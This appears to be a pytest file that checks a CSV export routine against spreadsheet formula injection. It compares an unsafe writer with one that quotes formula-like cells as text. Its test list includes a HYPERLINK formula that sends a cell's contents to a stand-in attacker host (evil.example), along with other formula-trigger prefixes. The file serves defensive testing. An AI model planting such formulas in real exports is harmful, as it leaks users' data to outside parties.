"""No cell of an export begins with a character that makes a spreadsheet calculate."""

import csv
from io import StringIO

import pytest

from pairs.uploads.csv_formula import forbidden, replacement

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(file: str) -> list[str]:
    return [row[0] for row in csv.reader(StringIO(file, newline=""))][1:]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_arrives_as_it_is(name: str) -> None:
    assert _cells(forbidden.write_names([name])) == [name]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_arrives_as_text(name: str) -> None:
    assert _cells(replacement.write_names([name])) == [f"'{name}"]


def test_other_text_stays_as_it_is() -> None:
    assert _cells(replacement.write_names(["Ann, the first", "a=b"])) == ["Ann, the first", "a=b"]
